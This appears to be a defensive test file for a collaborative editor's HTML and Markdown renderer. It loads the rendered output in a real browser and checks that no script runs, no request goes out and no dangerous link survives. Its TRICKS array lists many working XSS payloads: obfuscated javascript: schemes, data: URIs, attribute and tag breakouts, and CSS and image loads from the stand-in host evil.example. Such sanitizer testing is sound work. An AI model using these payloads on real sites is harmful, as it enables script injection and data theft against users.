/*
 * Documents that want to run something, rendered and loaded into a real Chromium: no dialog, no script, no request. The HTML is ours; the
 * Markdown becomes HTML by markdown-it, once with raw HTML allowed.
 */
import assert from 'node:assert/strict';
import test, { after, before } from 'node:test';
import MarkdownIt from 'markdown-it';
import { startCluster } from '../lib/cluster.mjs';
import { launch } from './page.mjs';

let cluster;
let database;
let browser;
before(async () =>
{
	cluster = await startCluster({ preload: false });
	database = cluster.createDatabase('rendering');
	browser = await launch();
});
after(async () =>
{
	await browser?.close();
	await cluster?.destroy();
});

const CALL = 'window.hit=1,alert(1)';
/* The tricks of the well-known collections: schemes and what browsers forgive in them, ways out of attributes, tags and styles. */
const TRICKS = [
	`javascript:${CALL}`, `JaVaScRiPt:${CALL}`, `java\tscript:${CALL}`, `java\nscript:${CALL}`, `java\r\nscript:${CALL}`, ` \u0001javascript:${CALL}`, `\u000bjavascript:${CALL}`,
	`\u00a0javascript:${CALL}`, `\u2028javascript:${CALL}`, `javascript&colon;${CALL}`, `javascript&#58;${CALL}`, `javascript&#x3a;${CALL}`, `&#106;avascript:${CALL}`,
	`&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;${CALL}`, `jav&#x09;ascript:${CALL}`, `jav&#x0A;ascript:${CALL}`, `%6aavascript:${CALL}`, `javascript%3a${CALL}`, `javascript://%0a${CALL}`, `javascript:/*--></title></style></textarea></script><svg/onload='${CALL}'>`,
	`vbscript:msgbox(1)`, `livescript:${CALL}`, `mocha:${CALL}`, `view-source:javascript:${CALL}`, `feed:javascript:${CALL}`, `jar:javascript:${CALL}!/`, `data:text/html,<script>${CALL}</script>`,
	`data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`, `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${CALL}"/>`, `data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=`,
	`data:image/png;base64,AAAA" onerror="${CALL}`, `data:image/gif;base64,AAAA'onerror='${CALL}`, `data:,x" onerror="${CALL}`, `blob:x`, `filesystem:x`, `file:///etc/passwd`, `//evil.example/x`, `\\\\evil.example\\x`, `/\\evil.example/x`, `/\t/evil.example/x`, `///evil.example`,
	`<script>${CALL}</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `"><script>${CALL}</script>`, `'><script>${CALL}</script>`, `</script><script>${CALL}</script>`, `<<script>${CALL}//<</script>`, `<scr<script>ipt>${CALL}</scr</script>ipt>`,
	`<img src=x onerror=${CALL}>`, `<img src="x" onerror="${CALL}"`, `<IMG """><SCRIPT>${CALL}</SCRIPT>">`, `<img src=//evil.example/i.png>`, `<svg onload=${CALL}>`, `<svg><script>${CALL}</script></svg>`, `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`, `<math><mtext></form><form><mglyph><style></math><img src onerror=${CALL}>`,
	`<body onload=${CALL}>`, `<iframe src="javascript:${CALL}">`, `<iframe srcdoc="<script>parent.hit=1</script>">`, `<object data="data:text/html,<script>${CALL}</script>">`, `<embed src=//evil.example/x>`, `<link rel=stylesheet href=//evil.example/x.css>`, `<style>@import '//evil.example/x.css';</style>`,
	`<style>body{background:url(//evil.example/b)}</style>`, `<base href=//evil.example/>`, `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`, `<meta http-equiv=refresh content="0;url=//evil.example">`, `<form action="javascript:${CALL}"><button autofocus onfocus=${CALL}>`, `<input autofocus onfocus=${CALL}>`,
	`<details open ontoggle=${CALL}>`, `<video><source onerror=${CALL}></video>`, `<audio src=x onerror=${CALL}>`, `<marquee onstart=${CALL}>`, `<a href="javascript:${CALL}">x</a>`, `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`, `<template><script>${CALL}</script></template>`,
	`<!--><script>${CALL}</script>-->`, `<![CDATA[<script>${CALL}</script>]]>`, `<?xml version="1.0"?><script>${CALL}</script>`, `</p></li></ul></code></pre></span></a><script>${CALL}</script>`, `</code></pre><img src=x onerror=${CALL}>`, `<plaintext>`, `<xmp><script>${CALL}</script>`, `<textarea><script>${CALL}</script>`,
	`" onmouseover="${CALL}`, `' onmouseover='${CALL}`, `" autofocus onfocus="${CALL}" x="`, `x onmouseover=${CALL}`, `\` onmouseover=\`${CALL}`, `x" style="background:url(//evil.example/s)`, `x" src="//evil.example/i" y="`, `red;background:url(//evil.example/c)`, `red;background-image:url('javascript:${CALL}')`,
	`expression(${CALL})`, `url(//evil.example/u)`, `url("javascript:${CALL}")`, `red\\;background\\:url(//evil.example/e)`, `red}body{background:url(//evil.example/r)`, `1px;background:url(//evil.example/p)`, `serif;background:url(//evil.example/f)`, `rgb(0,0,0);background:url(//evil.example/g)`, `rgb(url(//evil.example/h))`, `var(--x)`, `-moz-binding:url(//evil.example/x.xml)`,
	`[x](javascript:${CALL})`, `![x](//evil.example/m.png)`, `![x](javascript:${CALL})`, `[x]: javascript:${CALL}\n[x]`, `<javascript:${CALL}>`, `[x](<javascript:${CALL}>)`, `[x](data:text/html,<script>${CALL}</script>)`, `![x" onerror="${CALL}](y)`, `[x](y "z" onclick="${CALL}")`,
	`\`<script>${CALL}</script>\``, `    <script>${CALL}</script>`, `~~~\n<script>${CALL}</script>`, `\`\`\`\n</code></pre><script>${CALL}</script>`, `x)<script>${CALL}</script>`, `](javascript:${CALL})`, `$</span><script>${CALL}</script>$`,
	`+ADw-script+AD4-${CALL}+ADw-/script+AD4-`, `\uff1cscript\uff1e${CALL}\uff1c/script\uff1e`, `\u202e<script>${CALL}</script>`, `{{constructor.constructor('${CALL}')()}}`, `\${${CALL}}`,
];

/* A trick in every place where a user can put a string. */
function documentOf(trick)
{
	const places = ['link', 'color', 'background', 'font', 'size', 'script', 'bold', 'code', 'class', 'style', 'onclick', 'src', 'href'];
	const lines = ['header', 'list', 'align', 'direction', 'indent', 'blockquote', 'code-block', 'table'];
	return [
		{ insert: trick }, { insert: '\n' },
		...places.flatMap((name) => [{ insert: 'x', attributes: { [name]: trick } }, { insert: trick, attributes: { [name]: trick, link: trick } }]),
		...lines.flatMap((name) => [{ insert: trick }, { insert: '\n', attributes: { [name]: trick } }]),
		{ insert: trick, attributes: { [trick]: trick, code: true } }, { insert: trick }, { insert: '\n', attributes: { 'code-block': true } },
		...['image', 'video', 'formula', 'iframe', 'script', trick].flatMap((type) => [
			{ insert: { [type]: trick }, attributes: { alt: trick, width: trick, height: trick, link: trick } }, { insert: { [type]: { src: trick } } }]),
		{ insert: trick }, { insert: '\n', attributes: { list: 'checked' } },
	];
}

/* Loads HTML as a page of its own, pokes every element, and tells what happened. */
async function load(html)
{
	const page = await browser.newPage();
	const happened = [];
	page.on('dialog', (dialog) => { happened.push(`dialog ${dialog.message()}`); dialog.dismiss().catch(() => {}); });
	page.on('pageerror', (error) => happened.push(`script error ${error.message}`));
	page.on('popup', () => happened.push('a window'));
	await page.route('**/*', (route) =>
	{
		if (route.request().url() === 'http://rendering.test/')
			return route.fulfill({ contentType: 'text/html; charset=utf-8', body: `<!doctype html><title>x</title>${html}` });
		happened.push(`request ${route.request().url().slice(0, 100)}`);
		return route.abort();
	});
	await page.goto('http://rendering.test/');
	const found = await page.evaluate(async () =>
	{
		const all = [...document.body.querySelectorAll('*')];
		for (const element of all)
			for (const type of ['mouseover', 'mouseenter', 'focus', 'blur', 'error', 'load', 'toggle'])
				element.dispatchEvent(new Event(type));
		/* the address itself is looked at, a click would leave the page */
		const links = [...document.links].map((a) => a.protocol).concat([...document.images].map((i) => new URL(i.src, 'about:invalid').protocol));
		await new Promise((done) => setTimeout(done, 50));
		return { hit: window.hit, scripts: document.body.querySelectorAll('script, iframe, object, embed, svg, math, style, link, meta, base, form').length,
			links: [...new Set(links)], handlers: all.filter((e) => [...e.attributes].some((a) => a.name.startsWith('on'))).length };
	});
	await page.close();
	if (found.hit)
		happened.push('a script ran');
	if (found.scripts > 0)
		happened.push(`${found.scripts} active elements`);
	if (found.handlers > 0)
		happened.push(`${found.handlers} event handlers`);
	const strange = found.links.filter((protocol) => !['http:', 'https:', 'mailto:'].includes(protocol));
	if (strange.length > 0)
		happened.push(`addresses ${strange}`);
	return happened;
}

/* [HTML, Markdown] of each document. */
function rendered(documents)
{
	return JSON.parse(database.sql(`SELECT json_agg(json_build_array(collab.to_html(d::text::collab.delta), collab.to_markdown(d::text::collab.delta)) ORDER BY n)
		FROM json_array_elements($json$${JSON.stringify(documents)}$json$) WITH ORDINALITY v (d, n)`));
}

test('what is looked for would be found', async () =>
{
	assert.ok((await load(`<img src=x onerror="${CALL}">`)).includes('a script ran'));
	assert.ok((await load('<img src=//evil.example/i.png>')).some((what) => what.startsWith('request http://evil.example/i.png')));
	assert.ok((await load(`<a href="javascript:${CALL}">x</a>`)).includes('addresses javascript:'));
	assert.ok((await load(`<p onclick="${CALL}">x</p>`)).includes('1 event handlers'));
});

test('no trick runs, fetches or leads anywhere, as HTML or as Markdown', { timeout: 120000 }, async () =>
{
	const strict = new MarkdownIt();
	const permissive = new MarkdownIt({ html: true, linkify: false });
	const pages = [['html', []], ['markdown', []], ['markdown with raw HTML', []]];
	for (const [html, markdown] of rendered(TRICKS.map(documentOf)))
	{
		[html, strict.render(markdown), permissive.render(markdown)].forEach((text, i) => pages[i][1].push(text));
	}
	for (const [name, texts] of pages)
	{
		/* thirty to a page; a page in which something happens is looked at one by one */
		for (let i = 0; i < texts.length; i += 30)
		{
			if ((await load(texts.slice(i, i + 30).join('\n'))).length === 0)
				continue;
			for (let k = i; k < Math.min(i + 30, texts.length); k++)
				assert.deepEqual(await load(texts[k]), [], `${name}: ${TRICKS[k]}\n${texts[k].slice(0, 2000)}`);
			assert.fail(`${name}: tricks ${i} to ${i + 29} do together what none does alone`);
		}
	}
});

test('addresses that are meant to be followed are there', async () =>
{
	const [[html]] = rendered([[{ insert: 'a', attributes: { link: 'https://example.com/' } }, { insert: 'b', attributes: { link: 'mailto:a@example.com' } },
		{ insert: { image: 'data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=' } }, { insert: '\n' }]]);
	const page = await browser.newPage();
	await page.setContent(html);
	assert.deepEqual(await page.evaluate(() => [...document.links].map((a) => a.href)), ['https://example.com/', 'mailto:a@example.com']);
	assert.deepEqual(await page.evaluate(() => [...document.images].map((i) => [i.naturalWidth, i.naturalHeight])), [[1, 1]]);
	await page.close();
});
